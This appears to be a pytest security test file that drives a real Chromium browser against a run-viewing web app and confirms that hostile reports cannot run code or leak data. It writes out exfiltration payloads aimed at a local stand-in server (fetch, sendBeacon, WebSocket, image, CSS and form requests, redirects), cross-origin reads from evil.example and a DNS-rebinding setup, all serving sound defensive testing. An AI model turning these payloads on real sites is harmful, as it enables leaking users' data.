"""What hostile runs try in a real browser: nothing of theirs runs, nothing leaves."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browsing import WIDER, Watched, chromium, served
from test_web_runs import stale_read
from web_hostile import HOSTILE, said_everywhere

from splitbrain.cli import front

pytestmark = [pytest.mark.live, pytest.mark.xdist_group("serve-browser")]
QUICK = "markup"
NAMES = [n if n == QUICK else pytest.param(n, marks=pytest.mark.thorough) for n in HOSTILE]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as one:
        yield one


class Elsewhere:
    """A server of somebody else, that notes whatever reaches it."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        noted = self.seen

        class Notes(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                noted.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Notes)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    one = Elsewhere()
    yield one
    one.server.shutdown()
    one.server.server_close()


@pytest.mark.parametrize("name", NAMES)
def test_nothing_a_run_says_runs_in_any_view(browser: Any, tmp_path: Path, name: str) -> None:
    short = "y" * 5000 if name == "long" else None
    folder = said_everywhere(tmp_path, HOSTILE[name], short=short)
    with served(tmp_path) as one:
        context = browser.new_context(viewport={"width": 360, "height": 760})
        page = context.new_page()
        watched = Watched(page, one.url)
        run = folder.name
        for address in ("/", f"/runs/{run}", f"/compare?run={run}&run={run}", "/?q=x&sort=tags"):
            page.goto(one.url + address, timeout=60_000)
            scripts = "Array.from(document.scripts, (s) => new URL(s.src).pathname)"
            assert set(page.evaluate(scripts)) <= {"/static/keys.js", "/static/live.js"}
            assert page.evaluate("document.images.length") == 0
            assert page.evaluate(WIDER) <= 0, address
        if name != "surrogate":  # a history with half a character is none, and has no report
            page.goto(f"{one.url}/runs/{run}/show/report.html")
            page.wait_for_timeout(300)
        context.close()
        assert watched.trouble == []


@pytest.mark.thorough
def test_a_page_that_somebody_changed_reaches_nobody(
    browser: Any, tmp_path: Path, elsewhere: Elsewhere
) -> None:
    folder = stale_read(tmp_path)
    other = stale_read(tmp_path)
    away = elsewhere.url
    scripts = f"""
      document.title = "it ran";
      fetch("{away}/fetch", {{mode: "no-cors"}});
      navigator.sendBeacon("{away}/beacon", "x");
      new Image().src = "{away}/image";
      new WebSocket("{away.replace("http", "ws")}/socket");
      fetch("/runs/{other.name}").then((r) => r.text()).then((t) => top.postMessage(t, "*"));
      open("{away}/window");
      top.location = "{away}/top";
      location = "{away}/self";
    """
    quiet = f"""
      <meta http-equiv="refresh" content="0; url={away}/refresh">
      <link rel="stylesheet" href="{away}/style"><link rel="prefetch" href="{away}/prefetch">
      <link rel="preconnect" href="{away}"><link rel="dns-prefetch" href="{away}">
      <style>@import "{away}/import"; body {{ background: url({away}/background) }}
      @font-face {{ font-family: x; src: url({away}/font) }} p {{ font-family: x }}</style>
      <img src="{away}/img" onerror="document.title = 'it ran'">
      <iframe src="{away}/frame"></iframe><object data="{away}/object"></object>
      <embed src="{away}/embed"><video src="{away}/video" autoplay></video>
      <form id=f action="{away}/form" method=post><input name=x value=y></form>
      <a id=away href="{away}/link">link</a> <a id=top target=_top href="{away}/link">link</a>
      <a id=blank target=_blank href="{away}/blank">link</a>
      <a id=ping href="#here" ping="{away}/ping">link</a>
      <a id=other href="/runs/{other.name}">link</a>
      <button id=send form=f>send</button><svg onload="document.title = 'it ran'"></svg>
    """
    page_text = f"<!doctype html><title>still</title><script>{scripts}</script>{quiet}"
    # With a script it is made anew; what has none is shown as it is.
    for text in (page_text, f"<!doctype html><title>still</title>{quiet}"):
        (folder / "report.html").write_text(text)
        with served(tmp_path) as one:
            context = browser.new_context()
            page = context.new_page()
            page.goto(f"{one.url}/runs/{folder.name}/show/report.html")
            page.wait_for_timeout(1500)
            assert page.url.startswith(one.url)
            frame = page.frames[-1] if len(page.frames) == 2 else page.frames[1]
            if "<script>" not in text and "/frame/" in frame.url:
                assert frame.title() == "still"
                for link in ("#ping", "#send", "#blank", "#top", "#away"):
                    frame.click(link, timeout=2000, no_wait_after=True)
                    page.wait_for_timeout(300)
                    if page.query_selector("iframe") is None or "chrome-error" in frame.url:
                        break
            assert len(context.pages) == 1 and page.url.startswith(one.url)
            context.close()
    assert elsewhere.seen == []


@pytest.mark.thorough
def test_even_a_script_that_ran_would_reach_nobody_by_the_ways_of_a_page(
    browser: Any, tmp_path: Path, elsewhere: Elsewhere
) -> None:
    """As if a hostile script's digest were known: the debugger runs it, which no policy stops."""
    folder = stale_read(tmp_path)
    with served(tmp_path) as one:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{one.url}/runs/{folder.name}/show/report.html")
        page.wait_for_timeout(500)
        frame = next(f for f in page.frames if "/frame/" in f.url)
        away = elsewhere.url
        tried = frame.evaluate(
            """async ([away, own]) => {
              const tell = (error) => error.name;
              const told = {
                away: await fetch(away + "/fetch", { mode: "no-cors" }).then(() => "sent", tell),
                own: await fetch(own).then((r) => r.text(), tell),
              };
              navigator.sendBeacon(away + "/beacon", "x");
              new Image().src = away + "/image";
              const reach = (what, how) => {
                try { told[what] = String(how()); } catch (error) { told[what] = error.name; }
              };
              reach("parent", () => parent.document.title);
              reach("store", () => localStorage);
              told.window = String(open(away + "/window"));
              reach("top", () => { top.location = away + "/top"; });
              setTimeout(() => { location = away + "/self"; }, 50);
              return told;
            }""",
            [away, f"{one.url}/runs/{folder.name}"],
        )
        page.wait_for_timeout(1000)
        assert tried == {
            "away": "TypeError",
            "own": "TypeError",
            "parent": "SecurityError",
            "store": "SecurityError",
            "window": "null",
            "top": "SecurityError",
        }
        assert page.url.startswith(one.url) and len(context.pages) == 1
        context.close()
    assert elsewhere.seen == []


def test_a_page_of_another_site_can_neither_read_nor_show_ours(
    browser: Any, tmp_path: Path
) -> None:
    folder = stale_read(tmp_path)
    with served(tmp_path) as one:
        page = browser.new_page()
        page.route("http://evil.example/**", lambda route: route.fulfill(body="<p>hello"))
        page.goto("http://evil.example/")
        tried = page.evaluate(
            """async (url) => {
              const tell = (error) => error.name;
              const image = new Image();
              const seen = await new Promise((done) => {
                image.onload = () => done("shown");
                image.onerror = () => done("refused");
                image.src = url + "/static/icon.svg";
              });
              return [seen, await fetch(url + "/pulse.json").then((r) => r.text(), tell),
                await fetch(url + "/", { mode: "no-cors" }).then((r) => r.type, tell)];
            }""",
            one.url,
        )
        assert tried[0] == "refused" and tried[1] == "TypeError" and tried[2] == "TypeError"
        page.set_content(f'<iframe src="{one.url}/runs/{folder.name}"></iframe>')
        page.wait_for_timeout(500)
        assert "stale" not in (page.frames[-1].content() if len(page.frames) > 1 else "")
        page.close()


def test_a_bundle_from_elsewhere_is_shown_and_does_nothing(browser: Any, tmp_path: Path) -> None:
    folder = said_everywhere(tmp_path / "from", HOSTILE["markup"])
    bundle, store = tmp_path / "b.tar.zst", tmp_path / "to"
    asked = ["export", folder.name, "--store", str(tmp_path / "from"), "-o", str(bundle)]
    assert front.run(asked) == 0
    assert front.run(["import", str(bundle), "--store", str(store)]) == 0
    with served(store) as one:
        context = browser.new_context()
        page = context.new_page()
        watched = Watched(page, one.url)
        for name in ("", "/show/report.html", "/show/explanation.html"):
            page.goto(f"{one.url}/runs/{folder.name}{name}")
            page.wait_for_timeout(400)
        page.goto(one.url)
        assert "imported" in page.inner_text("tr[data-run]")
        context.close()
        assert watched.trouble == []


def test_a_name_that_was_rebound_shows_nothing(browser: Any, tmp_path: Path) -> None:
    """A browser that takes evil.example for this machine, as after DNS rebinding."""
    import browsing

    stale_read(tmp_path)
    with served(tmp_path) as one:
        port = one.told["port"]
        args = [f"--host-resolver-rules=MAP evil.example 127.0.0.1:{port}"]
        own = browser.browser_type.launch(
            executable_path=browsing.CHROMIUM, args=["--no-sandbox", *args]
        )
        page = own.new_page()
        answer = page.goto("http://evil.example/")
        assert answer.status == 421 and "stale" not in page.content()
        own.close()
